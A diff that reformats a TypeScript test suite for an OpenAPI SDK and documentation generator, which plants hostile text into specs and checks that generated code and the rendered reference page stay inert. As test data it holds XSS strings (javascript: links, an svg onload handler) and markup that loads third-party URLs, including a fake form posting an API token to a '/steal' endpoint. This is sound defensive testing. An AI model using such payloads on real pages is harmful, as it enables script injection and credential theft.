@@ -73,7 +73,8 @@ const HOSTILE: ReadonlyArray<[label: string, text: string]> = [
 ];
 const HARMLESS = "harmless";
 
-const isObject = (value: unknown): value is Json => typeof value === "object" && value !== null && !Array.isArray(value);
+const isObject = (value: unknown): value is Json =>
+  typeof value === "object" && value !== null && !Array.isArray(value);
 
 /** What the text between a marker's halves must read back as: white space (line breaks included) as one space. */
 const spaced = (text: string) => text.replace(/[\s\u0085]+/g, " ");
@@ -90,7 +91,8 @@ function planted(doc: Json, text: (n: number) => string, extraKey?: string): Jso
     if (Array.isArray(node)) return node.map(data);
     if (!isObject(node)) return node;
     const out: Json = Object.fromEntries(Object.entries(node).map(([, value]) => [text(n++), data(value)]));
-    if (extraKey !== undefined) Object.defineProperty(out, extraKey, { value: text(n++), enumerable: true, writable: true, configurable: true });
+    if (extraKey !== undefined)
+      Object.defineProperty(out, extraKey, { value: text(n++), enumerable: true, writable: true, configurable: true });
     return out;
   };
   const walk = (node: unknown): unknown => {
@@ -98,14 +100,26 @@ function planted(doc: Json, text: (n: number) => string, extraKey?: string): Jso
     if (!isObject(node)) return node;
     const out: Json = {};
     // An Example Object: its `value` is data.
-    const example = Object.keys(node).every((key) => ["summary", "description", "value", "externalValue"].includes(key));
+    const example = Object.keys(node).every((key) =>
+      ["summary", "description", "value", "externalValue"].includes(key),
+    );
     for (const [key, value] of Object.entries(node)) {
       if (extraKey !== undefined && key === "properties" && isObject(value)) {
         const properties = walk(value) as Json;
-        Object.defineProperty(properties, extraKey, { value: { type: "string", description: text(n++) }, enumerable: true, writable: true, configurable: true });
+        Object.defineProperty(properties, extraKey, {
+          value: { type: "string", description: text(n++) },
+          enumerable: true,
+          writable: true,
+          configurable: true,
+        });
         out[key] = properties;
       } else if (["summary", "description", "title"].includes(key) && typeof value === "string") out[key] = text(n++);
-      else if (["example", "default", "enum", "const"].includes(key) || (key === "examples" && Array.isArray(value)) || (example && key === "value")) out[key] = data(value);
+      else if (
+        ["example", "default", "enum", "const"].includes(key) ||
+        (key === "examples" && Array.isArray(value)) ||
+        (example && key === "value")
+      )
+        out[key] = data(value);
       else out[key] = walk(value);
     }
     return out;
@@ -129,7 +143,8 @@ const MARKER = /Zq(\d+)q/g;
 const CODE_SOURCE = new Set(["generated/code-mode-declarations.ts", "generated/code-mode-docs.ts"]);
 /** A marker, also lower-cased (header names are). */
 const HAS_MARKER = /zq\d+q/i;
-const sourceOf = (name: string, text: string) => ts.createSourceFile(name, text, ts.ScriptTarget.Latest, true, ts.ScriptKind.TS);
+const sourceOf = (name: string, text: string) =>
+  ts.createSourceFile(name, text, ts.ScriptTarget.Latest, true, ts.ScriptKind.TS);
 
 /**
  * A file's syntax tree as text: node kinds and numbers; every string (and an identifier made of
@@ -143,9 +158,11 @@ function maskedTree(source: ts.SourceFile): string {
     else if (ts.isIdentifier(node) || ts.isPrivateIdentifier(node)) out.push("I");
     else if (ts.isNumericLiteral(node)) out.push(node.text);
     // `import { a }` and `import { a as b }` are one import, whichever local name the minifier chose.
-    else if (ts.isImportSpecifier(node) || ts.isExportSpecifier(node)) return void out.push(`${ts.SyntaxKind[node.kind]}(I)`);
+    else if (ts.isImportSpecifier(node) || ts.isExportSpecifier(node))
+      return void out.push(`${ts.SyntaxKind[node.kind]}(I)`);
     // `data.name` and `data["na me"]` are one access: a name is written either way, as it allows.
-    else if (ts.isElementAccessExpression(node) && ts.isStringLiteralLike(node.argumentExpression)) out.push("PropertyAccessExpression");
+    else if (ts.isElementAccessExpression(node) && ts.isStringLiteralLike(node.argumentExpression))
+      out.push("PropertyAccessExpression");
     else out.push(ts.SyntaxKind[node.kind]!);
     out.push("(");
     ts.forEachChild(node, visit);
@@ -172,7 +189,10 @@ function readingOf(source: ts.SourceFile): Reading {
   const text = source.getFullText();
   const seenComments = new Set<number>();
   const comments = (pos: number) => {
-    for (const range of [...(ts.getLeadingCommentRanges(text, pos) ?? []), ...(ts.getTrailingCommentRanges(text, pos) ?? [])]) {
+    for (const range of [
+      ...(ts.getLeadingCommentRanges(text, pos) ?? []),
+      ...(ts.getTrailingCommentRanges(text, pos) ?? []),
+    ]) {
       if (seenComments.has(range.pos)) continue;
       seenComments.add(range.pos);
       const comment = text.slice(range.pos, range.end);
@@ -187,7 +207,8 @@ function readingOf(source: ts.SourceFile): Reading {
     for (const doc of ts.getJSDocCommentsAndTags(node)) {
       if (!ts.isJSDoc(doc)) continue;
       reading.docs.push(ts.getTextOfJSDocComment(doc.comment) ?? "");
-      for (const tag of doc.tags ?? []) reading.docs.push(`@${tag.tagName.text} ${ts.getTextOfJSDocComment(tag.comment) ?? ""}`);
+      for (const tag of doc.tags ?? [])
+        reading.docs.push(`@${tag.tagName.text} ${ts.getTextOfJSDocComment(tag.comment) ?? ""}`);
     }
     ts.forEachChild(node, (child) => visit(child, inFunction || ts.isFunctionLike(node)));
   };
@@ -231,7 +252,11 @@ function between(texts: readonly string[]): Map<string, Array<string | undefined
 }
 
 /** Every string (keys too) of a run-time value, and each `[key, value]` pair of its objects. */
-function valuesOf(value: unknown, out: { strings: string[]; pairs: Array<[string, unknown]> } = { strings: [], pairs: [] }, seen = new Set<unknown>()) {
+function valuesOf(
+  value: unknown,
+  out: { strings: string[]; pairs: Array<[string, unknown]> } = { strings: [], pairs: [] },
+  seen = new Set<unknown>(),
+) {
   if (typeof value === "string") out.strings.push(value);
   if (typeof value !== "object" || value === null || seen.has(value)) return out;
   seen.add(value);
@@ -286,9 +311,16 @@ async function importAll(files: Record<string, string>, folder: string) {
 
 describe("free text in every place it reaches", () => {
   it("the markers find the places: each generated file kind holds some", () => {
-    const reached = Object.entries(baseline).filter(([, text]) => HAS_MARKER.test(text)).map(([name]) => name.replace(/ops\/.*$/, "ops/*"));
+    const reached = Object.entries(baseline)
+      .filter(([, text]) => HAS_MARKER.test(text))
+      .map(([name]) => name.replace(/ops\/.*$/, "ops/*"));
     // Not a list to keep up: only that the search finds places in code, types, docs and data.
-    for (const kind of ["generated/schema.ts", "generated/methods.ts", "generated/mcp-tools.ts", "generated/testing/ops/*"]) {
+    for (const kind of [
+      "generated/schema.ts",
+      "generated/methods.ts",
+      "generated/mcp-tools.ts",
+      "generated/testing/ops/*",
+    ]) {
       expect(reached, kind).toContain(kind);
     }
   });
@@ -302,17 +334,29 @@ describe("free text in every place it reaches", () => {
       for (const [name, text] of Object.entries(files)) {
         const source = sourceOf(name, text);
         const syntax = (source as unknown as { parseDiagnostics: ts.Diagnostic[] }).parseDiagnostics;
-        if (syntax.length > 0) problems.push(`${name} does not parse: ${ts.flattenDiagnosticMessageText(syntax[0]!.messageText, " ")}`);
+        if (syntax.length > 0)
+          problems.push(`${name} does not parse: ${ts.flattenDiagnosticMessageText(syntax[0]!.messageText, " ")}`);
         const [tree, harmless] = [maskedTree(source), maskedTree(sourceOf(name, baseline[name]!))];
-        if (tree !== harmless) problems.push(`${name}: its syntax differs from the harmless one's: ${firstDifference(tree, harmless)}`);
+        if (tree !== harmless)
+          problems.push(`${name}: its syntax differs from the harmless one's: ${firstDifference(tree, harmless)}`);
         const reading = readingOf(source);
-        for (const comment of reading.otherComments) if (HAS_MARKER.test(comment)) problems.push(`${name}: contract text in a comment that is no doc comment: ${comment.slice(0, 80)}`);
+        for (const comment of reading.otherComments)
+          if (HAS_MARKER.test(comment))
+            problems.push(`${name}: contract text in a comment that is no doc comment: ${comment.slice(0, 80)}`);
         // Code mode's strings are TypeScript source: read through the compiler, as the type check reads them.
-        const strings = CODE_SOURCE.has(name) ? reading.strings.flatMap((value) => readingOf(sourceOf("value.ts", value)).strings) : reading.strings;
-        for (const [where, texts, decode] of [["string", strings, (t: string) => t], ["doc comment", reading.docs, unescapeDoc]] as const) {
+        const strings = CODE_SOURCE.has(name)
+          ? reading.strings.flatMap((value) => readingOf(sourceOf("value.ts", value)).strings)
+          : reading.strings;
+        for (const [where, texts, decode] of [
+          ["string", strings, (t: string) => t],
+          ["doc comment", reading.docs, unescapeDoc],
+        ] as const) {
           for (const [n, readBack] of between(texts)) {
             for (const got of readBack) {
-              if (got === undefined || !readsAs(decode(got), expected)) problems.push(`${name}: marker ${n} reads back from a ${where} as ${JSON.stringify(got?.slice(0, 60))}`);
+              if (got === undefined || !readsAs(decode(got), expected))
+                problems.push(
+                  `${name}: marker ${n} reads back from a ${where} as ${JSON.stringify(got?.slice(0, 60))}`,
+                );
             }
           }
         }
@@ -322,9 +366,13 @@ describe("free text in every place it reaches", () => {
       expect(added, "importing the generated modules added globals").toEqual([]);
       for (const [name, module] of Object.entries(modules)) {
         // Code mode's values are TypeScript source (its declarations, signatures, examples): contract text is in that source's strings.
-        const strings = CODE_SOURCE.has(name) ? valuesOf(module).strings.flatMap((value) => readingOf(sourceOf("value.ts", value)).strings) : valuesOf(module).strings;
+        const strings = CODE_SOURCE.has(name)
+          ? valuesOf(module).strings.flatMap((value) => readingOf(sourceOf("value.ts", value)).strings)
+          : valuesOf(module).strings;
         const atRunTime = between(strings);
-        for (const [n, got] of atRunTime) if (got.some((text) => text === undefined || spaced(text) !== expected)) problems.push(`${name}: marker ${n} reads back at run time as ${JSON.stringify(got[0]?.slice(0, 60))}`);
+        for (const [n, got] of atRunTime)
+          if (got.some((text) => text === undefined || spaced(text) !== expected))
+            problems.push(`${name}: marker ${n} reads back at run time as ${JSON.stringify(got[0]?.slice(0, 60))}`);
         // A validator module (the kit's, an operation's responses', a schema's) also holds the schemas its validators
         // report from, which it does not export: its literals are checked above.
         if (name.includes("/ops/") || name.startsWith("generated/validators/")) continue;
@@ -345,7 +393,9 @@ describe("free text in every place it reaches", () => {
         const { modules } = await importAll(files, `key-${key}`);
         return {
           files: Object.fromEntries(Object.entries(files).map(([name, text]) => [name, [...markersOf([text])].sort()])),
-          runTime: Object.fromEntries(Object.entries(modules).map(([name, module]) => [name, [...markersOf(valuesOf(module).strings)].sort()])),
+          runTime: Object.fromEntries(
+            Object.entries(modules).map(([name, module]) => [name, [...markersOf(valuesOf(module).strings)].sort()]),
+          ),
         };
       }),
     );
@@ -357,17 +407,46 @@ describe("free text in every place it reaches", () => {
 
 describe("names", () => {
   /** A name place of the kitchen sink: how to put a name there, and the pointer a refusal names. */
-  const places: Array<[string, (doc: Json, name: string) => void, string, (doc: Json, name: string) => string | undefined]> = [
-    ["an operationId", (d, name) => (d.paths["/widgets/{id}/"].get.operationId = name), "#/paths/~1widgets~1{id}~1/get/operationId", (d) => contractModel(d).operations.find((op) => op.key === "GET /widgets/{id}/")!.ident],
-    ["a header name", (d, name) => (d.paths["/widgets/"].get.parameters.push({ name, in: "header", schema: { type: "string" } })), "#/paths/~1widgets~1/get/parameters/3/name", () => undefined],
-    ["a schema name", (d, name) => (d.components.schemas[name] = { type: "string" }), "#/components/schemas/", (d, name) => contractModel(d).typeNames.get(name)],
-    ["a path parameter", (d, name) => {
-      const item = d.paths["/widgets/{id}/"];
-      delete d.paths["/widgets/{id}/"];
-      d.paths[`/widgets/{${name}}/`] = item;
-      item.parameters[0].name = name;
-    }, "#/paths/", (d) => contractModel(d).operations.find((op) => op.path.startsWith("/widgets/{") && op.method === "get")!.pathArguments[0]],
-    ["an x-sdk-method", (d, name) => (d.paths["/status/"].get["x-sdk-method"] = `status.${name}`), "#/paths/~1status~1/get/x-sdk-method", (d) => contractModel(d).operations.find((op) => op.key === "GET /status/")!.methodName],
+  const places: Array<
+    [string, (doc: Json, name: string) => void, string, (doc: Json, name: string) => string | undefined]
+  > = [
+    [
+      "an operationId",
+      (d, name) => (d.paths["/widgets/{id}/"].get.operationId = name),
+      "#/paths/~1widgets~1{id}~1/get/operationId",
+      (d) => contractModel(d).operations.find((op) => op.key === "GET /widgets/{id}/")!.ident,
+    ],
+    [
+      "a header name",
+      (d, name) => d.paths["/widgets/"].get.parameters.push({ name, in: "header", schema: { type: "string" } }),
+      "#/paths/~1widgets~1/get/parameters/3/name",
+      () => undefined,
+    ],
+    [
+      "a schema name",
+      (d, name) => (d.components.schemas[name] = { type: "string" }),
+      "#/components/schemas/",
+      (d, name) => contractModel(d).typeNames.get(name),
+    ],
+    [
+      "a path parameter",
+      (d, name) => {
+        const item = d.paths["/widgets/{id}/"];
+        delete d.paths["/widgets/{id}/"];
+        d.paths[`/widgets/{${name}}/`] = item;
+        item.parameters[0].name = name;
+      },
+      "#/paths/",
+      (d) =>
+        contractModel(d).operations.find((op) => op.path.startsWith("/widgets/{") && op.method === "get")!
+          .pathArguments[0],
+    ],
+    [
+      "an x-sdk-method",
+      (d, name) => (d.paths["/status/"].get["x-sdk-method"] = `status.${name}`),
+      "#/paths/~1status~1/get/x-sdk-method",
+      (d) => contractModel(d).operations.find((op) => op.key === "GET /status/")!.methodName,
+    ],
   ];
   const identifier = /^[A-Za-z_$][\w$]*(\.[A-Za-z_$][\w$]*)*$/;
 
@@ -398,7 +477,9 @@ describe("names", () => {
     (d, name) => d.paths["/widgets/"].get.parameters.push({ name, in: "header", schema: { type: "string" } }),
     (d, name) => (d.tags.push({ name, description: "A tag." }), d.paths["/widgets/"].get.tags.push(name)),
     (d, name, i) => {
-      const operations = Object.values(d.paths as Json).flatMap((item: Json) => ["get", "post", "put", "patch", "delete"].map((m) => item[m]).filter(Boolean));
+      const operations = Object.values(d.paths as Json).flatMap((item: Json) =>
+        ["get", "post", "put", "patch", "delete"].map((m) => item[m]).filter(Boolean),
+      );
       if (i < operations.length) operations[i].operationId = name;
     },
   ];
@@ -427,12 +508,16 @@ describe("names", () => {
     for (const [name, text] of Object.entries(files)) {
       const source = sourceOf(name, text);
       const syntax = (source as unknown as { parseDiagnostics: ts.Diagnostic[] }).parseDiagnostics;
-      if (syntax.length > 0) problems.push(`${name} does not parse: ${ts.flattenDiagnosticMessageText(syntax[0]!.messageText, " ")}`);
+      if (syntax.length > 0)
+        problems.push(`${name} does not parse: ${ts.flattenDiagnosticMessageText(syntax[0]!.messageText, " ")}`);
       if (harmless[name] === undefined) continue; // a file named after an operationId
       const [tree, other] = [maskedTree(source), maskedTree(sourceOf(name, harmless[name]!))];
-      if (tree !== other) problems.push(`${name}: its syntax differs from the harmless names' one: ${firstDifference(tree, other)}`);
+      if (tree !== other)
+        problems.push(`${name}: its syntax differs from the harmless names' one: ${firstDifference(tree, other)}`);
       const reading = readingOf(source);
-      for (const comment of reading.otherComments) if (HAS_MARKER.test(comment)) problems.push(`${name}: a name in a comment that is no doc comment: ${comment.slice(0, 80)}`);
+      for (const comment of reading.otherComments)
+        if (HAS_MARKER.test(comment))
+          problems.push(`${name}: a name in a comment that is no doc comment: ${comment.slice(0, 80)}`);
     }
     const { printed, added } = await importAll(files, "names");
     expect(printed).toEqual([]);
@@ -459,12 +544,19 @@ describe("the reference page", () => {
       "[link](javascript:globalThis.pwned='link')",
       "<svg onload=\"globalThis.pwned = 'svg'\"></svg>",
     ];
-    const doc = planted(base, (n) => `Zq${n}q ${scripts[n % scripts.length]} ${HOSTILE[n % HOSTILE.length]![1]} Zq${n}e`);
+    const doc = planted(
+      base,
+      (n) => `Zq${n}q ${scripts[n % scripts.length]} ${HOSTILE[n % HOSTILE.length]![1]} Zq${n}e`,
+    );
     const spec = join(scratch, "hostile.json");
     await writeFile(spec, JSON.stringify(doc));
     const page = join(scratch, "reference.html");
     await buildDocs({ specPath: spec, outputPath: page });
-    const browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"], timeout: 60_000 });
+    const browser = await chromium.launch({
+      executablePath: "/usr/bin/chromium",
+      args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
+      timeout: 60_000,
+    });
     try {
       const tab = await browser.newPage();
       const dialogs: string[] = [];
@@ -474,7 +566,8 @@ describe("the reference page", () => {
       // Open every operation's text, so that each description is rendered; then click the links it made.
       const rendered = await tab.evaluate(() => document.body.innerText.includes("Zq"));
       expect(rendered, "the page shows the planted text").toBe(true);
-      for (const link of await tab.locator('a[href^="javascript:"]').all()) await link.click({ timeout: 1000 }).catch(() => {});
+      for (const link of await tab.locator('a[href^="javascript:"]').all())
+        await link.click({ timeout: 1000 }).catch(() => {});
       expect(await tab.evaluate(() => (globalThis as { pwned?: unknown }).pwned)).toBeUndefined();
       expect(dialogs).toEqual([]);
     } finally {
@@ -495,23 +588,37 @@ const URL_LOADERS = [
   "\\`<audio src=https://third-party.example/audio.mp3></audio>\\`",
   "\\`<form action=https://third-party.example/steal><input name=token placeholder='Your API token'><button>Sign in</button></form>\\`",
   "\\`<img srcset=https://third-party.example/srcset.png>\\`",
-  "\\`<div style=\"background:url(https://third-party.example/bg.png)\">x</div>\\`",
+  '\\`<div style="background:url(https://third-party.example/bg.png)">x</div>\\`',
   "\\`<iframe src=https://third-party.example/frame></iframe>\\`",
   "\\`<meta http-equiv=refresh content='0;url=https://third-party.example/meta'>\\`",
 ];
 
 describe("the reference page and markup that loads a URL", () => {
   it("escaped backticks do not make code: the contract's Markdown holds no live element (as Redoc's parser reads it)", () => {
-    for (const text of URL_LOADERS) expect(untrustedMarkdown(text), text).not.toMatch(/<(?:video|input|svg|style|audio|form|img|div|iframe|meta)\b/);
+    for (const text of URL_LOADERS)
+      expect(untrustedMarkdown(text), text).not.toMatch(/<(?:video|input|svg|style|audio|form|img|div|iframe|meta)\b/);
     // Real code stays as written: a span, a fenced and an indented block.
-    expect(untrustedMarkdown("`<b>` and\n\n```\n<i>\n```\n\n    <u>\n")).toBe("`<b>` and\n\n```\n<i>\n```\n\n    <u>\n");
+    expect(untrustedMarkdown("`<b>` and\n\n```\n<i>\n```\n\n    <u>\n")).toBe(
+      "`<b>` and\n\n```\n<i>\n```\n\n    <u>\n",
+    );
   });
 
   it("the build refuses a page that would load or submit a URL by itself", () => {
-    for (const html of ['<video poster="https://x.example/p.png">', "<form action=https://x.example>", "<style>@import url(x.css)</style>", '<div style="background:url(https://x.example/b.png)">', '<svg><image href="https://x.example/i.png"/></svg>', '<meta http-equiv="refresh" content="0;url=https://x.example">']) {
+    for (const html of [
+      '<video poster="https://x.example/p.png">',
+      "<form action=https://x.example>",
+      "<style>@import url(x.css)</style>",
+      '<div style="background:url(https://x.example/b.png)">',
+      '<svg><image href="https://x.example/i.png"/></svg>',
+      '<meta http-equiv="refresh" content="0;url=https://x.example">',
+    ]) {
       expect(urlLoader(`<html><body>${html}</body></html>`), html).toBeDefined();
     }
-    expect(urlLoader('<html><body><a href="https://example.com">a link</a><svg><use href="#icon"/></svg><script>const t = "<img src=https://x>";</script></body></html>')).toBeUndefined();
+    expect(
+      urlLoader(
+        '<html><body><a href="https://example.com">a link</a><svg><use href="#icon"/></svg><script>const t = "<img src=https://x>";</script></body></html>',
+      ),
+    ).toBeUndefined();
   });
 
   it("built with each in every description, contacts no third party in Chromium", async () => {
@@ -521,7 +628,11 @@ describe("the reference page and markup that loads a URL", () => {
     await writeFile(spec, JSON.stringify(doc));
     const page = join(scratch, "url-loaders.html");
     await buildDocs({ specPath: spec, outputPath: page });
-    const browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"], timeout: 60_000 });
+    const browser = await chromium.launch({
+      executablePath: "/usr/bin/chromium",
+      args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
+      timeout: 60_000,
+    });
     try {
       const tab = await browser.newPage();
       const contacted: string[] = [];
@@ -533,9 +644,16 @@ describe("the reference page and markup that loads a URL", () => {
       });
       await tab.goto(pathToFileURL(page).href);
       await tab.waitForSelector("[data-section-id]", { timeout: 60_000 });
-      expect(await tab.evaluate(() => document.body.innerText.includes("Zq")), "the page shows the planted text").toBe(true);
+      expect(await tab.evaluate(() => document.body.innerText.includes("Zq")), "the page shows the planted text").toBe(
+        true,
+      );
       // Every element the strings name, had it been made live, would be in the document.
-      const live = await tab.evaluate(() => document.querySelectorAll("video, audio, form, iframe, input[type=image], svg image, img[srcset], meta[http-equiv]").length);
+      const live = await tab.evaluate(
+        () =>
+          document.querySelectorAll(
+            "video, audio, form, iframe, input[type=image], svg image, img[srcset], meta[http-equiv]",
+          ).length,
+      );
       expect(live).toBe(0);
       await tab.waitForTimeout(1000);
       expect(contacted).toEqual([]);
@@ -544,4 +662,3 @@ describe("the reference page and markup that loads a URL", () => {
     }
   }, 180_000);
 });
-
